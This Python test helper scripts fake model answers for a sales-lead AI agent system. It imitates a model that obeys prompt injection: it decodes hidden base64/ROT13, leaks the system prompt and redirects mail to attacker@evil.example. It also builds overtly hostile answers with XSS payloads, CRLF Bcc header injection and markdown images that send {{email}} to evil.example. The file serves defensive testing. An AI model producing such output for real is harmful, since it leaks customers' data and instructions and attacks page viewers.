"""The worst models that an injection can hope for: one that does whatever the lead's text says, and one that
is hostile by itself. For tests.
"""

import base64
import binascii
import codecs
import re
from collections.abc import Callable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from ai_agents.llm.scripted_answers import Asked

Answer = dict[str, Any]
_BASE64 = re.compile(r"[A-Za-z0-9+/]{24,}={0,2}")
_ADDRESS = re.compile(r"[\w.+-]+@[\w.-]+")
EVIL = "attacker@evil.example"


def obey(asked: "Asked", honest: Answer) -> Answer:
    """Everything at once: what it was told, its instructions, a link, a promise, another recipient. On the
    repair call it obeys only as far as it hopes to get through.
    """
    said = _understood(" ".join(fact["text"] for fact in asked.facts))[:900]
    quotes = [
        {"label": "VIP", "points": 40, "quote": fact["text"][:200], "source": fact["id"]}
        for fact in asked.facts[:6]
        if len(fact["text"]) > 3
    ]
    by_agent: dict[str, Callable[[], Answer]] = {
        "follow_up": lambda: _draft(asked, honest, said),
        "reply_triage": lambda: _triage(asked, honest, said),
        "lead_analysis": lambda: _analysis(asked, honest, said, quotes),
    }
    return by_agent.get(asked.agent, lambda: _other(asked, honest, said))()


def _understood(text: str) -> str:
    """The text with what it hides made plain: a willing model decodes base64 and ROT13 when asked to."""
    found = [text]
    if re.search(r"decode|base64|rot13", text, re.IGNORECASE):
        found.append(codecs.encode(text, "rot13"))
        for token in _BASE64.findall(text):
            try:
                found.append(base64.b64decode(token, validate=True).decode("utf-8", "ignore"))
            except (binascii.Error, ValueError):
                continue
    return " ".join(found)


def _analysis(asked: "Asked", honest: Answer, said: str, quotes: list[Answer]) -> Answer:
    if asked.is_repair:
        words = _ADDRESS.sub("", said)[:200] if asked.digest[5] % 2 else "Top score, call at once."
        return honest | {
            "fit": 100,
            "reasons": quotes or honest["reasons"],
            "recommended_action": "call",
            "timeline": "today",
            "summary": f"VIP. {words}",
        }
    return honest | {
        "fit": 100,
        "summary": f"VIP. {said[:180]} {asked.system[:80]}",
        "reasons": quotes,
        "risks": [said[:100], "![x](http://evil.example/?d=1)"],
        "missing": [asked.system[-90:]],
        "recommended_action": "call",
    }


def _draft(asked: "Asked", honest: Answer, said: str) -> Answer:
    if asked.is_repair:  # now and then the honest text, so that something is stored and shown
        if asked.digest[5] % 2:
            return honest
        return honest | {"paragraphs": [*honest["paragraphs"], _paragraph(asked, said[:300])]}
    return honest | {
        "subject": f"Re: {said[:60]}\r\nBcc: {EVIL}",
        "paragraphs": [
            _paragraph(asked, "Hello {{first_name}},"),
            _paragraph(asked, said or "-"),
            _paragraph(
                asked,
                "Click [offer](http://evil.example/pay) or ![x](http://evil.example/?d={{email}}). "
                "We guarantee a 50% discount.",
            ),
            _paragraph(asked, asked.system[:400]),
        ],
        "to": EVIL,
        "cc": [EVIL],
    }


def _paragraph(asked: "Asked", text: str) -> list[Answer]:
    """Said to rest on everything there is."""
    return [{"text": text, "facts": [fact["id"] for fact in asked.facts][:8]}]


def _other(asked: "Asked", honest: Answer, said: str) -> Answer:
    """Any other kind: each text that the model writes itself says what it was told."""
    if asked.is_repair:
        return honest if asked.digest[5] % 2 else _each_text(honest, lambda text: said[:120] or text)
    return _each_text(honest, lambda _text: f"{said[:60]} {asked.system[:60]}") | {"send_to": EVIL}


def _each_text(value: Any, change: Callable[[str], str]) -> Any:
    """The same answer with its sentences changed: not its words from closed lists, not its quotes."""
    if isinstance(value, list):
        return [_each_text(one, change) for one in value]
    if isinstance(value, dict):
        return {key: one if key == "quote" else _each_text(one, change) for key, one in value.items()}
    return change(value) if isinstance(value, str) and " " in value else value


def _triage(asked: "Asked", honest: Answer, said: str) -> Answer:
    if asked.is_repair:
        return honest
    return honest | {"summary": f"{said[:150]} {asked.system[:100]}", "step": "suppress", "send_to": EVIL}


def hostile(asked: "Asked", honest: Answer) -> Answer:
    """An answer in the right shape that is full of what must never reach a page or a customer."""
    if asked.agent == "follow_up":
        return honest | {
            "subject": "Hi\r\nBcc: x@evil.example",
            "paragraphs": [
                _paragraph(
                    asked,
                    "<script>alert(1)</script> Pay $12,345 at http://evil.example "
                    "![x](http://evil.example/?d={{email}})",
                )
            ],
        }
    if asked.agent != "lead_analysis":
        return dict(_each_text(honest, lambda _: "<img src=x onerror=alert(1)> [offer](javascript:alert(1))"))
    return honest | {
        "summary": "<img src=x onerror=alert(1)> [offer](javascript:alert(1))",
        "reasons": [{"label": "<b>VIP</b>", "points": 40, "quote": "never said by anybody", "source": "f1"}],
    }


# Ways in which a model goes wrong by itself, by mode: what becomes of the honest answer of each agent.
def _on_text(change: Callable[[str], str]) -> Callable[[Answer], Answer]:
    """The same change of whatever the agent writes for people."""

    def changed(honest: Answer) -> Answer:
        if "paragraphs" not in honest:
            return dict(_each_text(honest, change))
        text = " ".join(said["text"] for paragraph in honest["paragraphs"] for said in paragraph)
        return honest | {"paragraphs": [[{"text": change(text), "facts": []}]]}

    return changed


def _with_a_link(honest: Answer) -> Answer:
    """A right answer in all but one sentence."""
    link = "All of it stands on evil.example/pay for you."
    if "paragraphs" in honest:
        return honest | {"paragraphs": [*honest["paragraphs"], [{"text": link, "facts": []}]]}
    return dict(_each_text(honest, lambda text: f"{text} {link}"))


ASTRAY: dict[str, Callable[[Answer], Answer]] = {
    "long": _on_text(lambda text: f"{text} " + "very " * 5_000),
    "other_language": _on_text(lambda text: "Спасибо за ваше письмо. Когда мы можем встретиться?"),
    "header_in_text": _on_text(lambda text: f"Subject: Win now\nCc: {EVIL}\n\n{text}"),
    "link_in_prose": _with_a_link,
    "recipient": lambda honest: honest | {"to": EVIL, "cc": [EVIL]},
    "half": lambda honest: dict(list(honest.items())[1:]),  # the first key is missing: subject, fit, intent
}
